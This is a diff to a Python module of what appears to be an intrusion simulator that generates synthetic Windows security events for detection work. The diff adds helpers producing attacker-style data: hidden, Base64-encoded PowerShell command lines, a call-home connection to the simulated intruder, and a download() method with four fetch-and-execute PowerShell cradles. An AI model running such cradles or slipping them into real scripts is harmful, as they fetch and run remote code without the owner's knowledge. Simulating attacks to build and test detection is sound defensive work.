@@ -2,16 +2,18 @@
 
 from __future__ import annotations
 
-import base64
 import random
+import string
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 
-from tocsin.simulate.actions import Action, Logon, LogonType, ProcessStart
-from tocsin.simulate.organisation import Account, Machine, Organisation, stranger
-from tocsin.simulate.software import CMD
+from tocsin.simulate.actions import Action, Connection, FileCreate, Logon, LogonType, ProcessStart
+from tocsin.simulate.organisation import SYSTEM, Account, Machine, Organisation, stranger
+from tocsin.simulate.software import CMD, POWERSHELL, SYSTEM32, encoded
 
 _SYLLABLES = ("ba", "ce", "di", "fo", "ga", "ki", "lu", "ma", "ne", "po", "ra", "su", "ti", "vo", "xe", "zu")
+
+_FOLDERS = {"wmic.exe": "\\wbem", "mofcomp.exe": "\\wbem", "scrcons.exe": "\\wbem", "ssh.exe": "\\OpenSSH"}
 
 
 @dataclass(frozen=True, slots=True)
@@ -46,7 +48,14 @@ class Scenario:
 
 
 class Cast:
-    """The roles of one run, and what the intruder makes up as they go."""
+    """The roles of one run, and what the intruder makes up as they go.
+
+    Attributes:
+        intruder: their address on the internet.
+        victim, desk: whose account and machine they hold.
+        admin: an administrator whose password they got hold of.
+        implant: path of the program that they brought along.
+    """
 
     def __init__(self, organisation: Organisation, rng: random.Random) -> None:
         self.organisation = organisation
@@ -57,6 +66,7 @@ class Cast:
         self.service: Account = rng.choice(organisation.services)
         self.server: Machine = rng.choice(organisation.servers)
         self.controller: Machine = rng.choice(organisation.controllers)
+        self.implant = self.dropped("exe")
 
     @property
     def desk(self) -> Machine:
@@ -66,16 +76,42 @@ class Cast:
     def run(
         self,
         line: str,
-        image: str = CMD,
-        parent: str = CMD,
         *,
+        image: str = "",
+        parent: str = CMD,
         account: Account | None = None,
         machine: Machine | None = None,
     ) -> ProcessStart:
-        """Return the start of a program: by the victim on their machine, unless said otherwise."""
+        """Return the start of a program: by the victim on their machine, unless said otherwise.
+
+        Args:
+            line: the command line.
+            image: the program's path; empty for the part of Windows that the line begins with.
+            parent: who starts it.
+            account: who runs it; anyone but the victim has administrative rights.
+            machine: where; the account's own machine if not given.
+        """
         account = account or self.victim
+        where = machine or (self.desk if account == SYSTEM else account.home)
         elevated = account is not self.victim
-        return ProcessStart(account, machine or account.home, image, line, parent, f'"{parent}"', elevated)
+        path = image or system_program(line)
+        return ProcessStart(account, where, path, line, parent, f'"{parent}"', elevated)
+
+    def powershell(
+        self,
+        script: str,
+        *,
+        parent: str = CMD,
+        account: Account | None = None,
+        machine: Machine | None = None,
+    ) -> ProcessStart:
+        """Return a start of PowerShell with an encoded script, written in one of the ways it may be."""
+        flags = self.one_of(
+            "-nop -w hidden", "-NoP -sta -NonI -W Hidden", "-NoProfile -WindowStyle Hidden", ""
+        )
+        name = self.cased(self.one_of("-EncodedCommand", "-EncodedCommand", "-encodedcommand", "-enc", "-e"))
+        line = " ".join(f"powershell.exe {flags} {name} {encoded(script)}".split())
+        return self.run(line, image=POWERSHELL, parent=parent, account=account, machine=machine)
 
     def log_on(
         self, account: Account, machine: Machine, address: str, type_: LogonType, *, success: bool = True
@@ -84,9 +120,29 @@ class Cast:
         privileged = success and account in self.organisation.admins
         return Logon(account, machine, address, success, type_, privileged)
 
+    def file(
+        self, path: str, image: str, *, account: Account | None = None, machine: Machine | None = None
+    ) -> FileCreate:
+        """Return the making of a file: by the victim on their machine, unless said otherwise."""
+        account = account or self.victim
+        return FileCreate(account, machine or account.home, image, path)
+
+    def call_home(self, image: str, *, machine: Machine | None = None) -> Connection:
+        """Return a connection to the intruder's server."""
+        port = self.rng.choice((80, 443, 4444, 8080, 8443))
+        return Connection(self.victim, machine or self.desk, image, self.intruder, port)
+
     def word(self) -> str:
         """Return a made-up name for a file, a task or a service."""
         return "".join(self.rng.choice(_SYLLABLES) for _ in range(self.rng.randint(2, 4)))
+
+    def noise(self, length: int) -> str:
+        """Return random letters, as tools name what they leave behind."""
+        return "".join(self.rng.choices(string.ascii_letters, k=length))
+
+    def password(self) -> str:
+        """Return a password that satisfies the usual rules."""
+        return f"{self.word().title()}{self.rng.choice('!#$%')}{self.rng.randrange(10, 99)}"
 
     def one_of(self, *texts: str) -> str:
         """Return one of the texts."""
@@ -117,7 +173,19 @@ class Cast:
         )
         return f"{folder}\\{self.word()}.{extension}"
 
+    def download(self) -> str:
+        """Return a script that fetches another one, and runs it without leaving a file."""
+        return self.one_of(
+            f"IEX (New-Object Net.WebClient).DownloadString('{self.url('ps1')}')",
+            f"$w=New-Object System.Net.WebClient;iex $w.DownloadString('{self.url('txt')}')",
+            f"iwr -UseBasicParsing {self.url('txt')} | iex",
+            f"Invoke-Expression (Invoke-RestMethod -Uri {self.url('ps1')})",
+        )
 
-def encoded(script: str) -> str:
-    """Return a script as PowerShell's `-EncodedCommand` takes it: Base64 of UTF-16LE."""
-    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")
+
+def system_program(line: str) -> str:
+    """Return the path of the part of Windows that a command line begins with."""
+    name = line.split(maxsplit=1)[0].strip('"').rpartition("\\")[2]
+    if name.lower() == "powershell.exe":
+        return POWERSHELL
+    return f"{SYSTEM32}{_FOLDERS.get(name.lower(), '')}\\{name.lower()}"
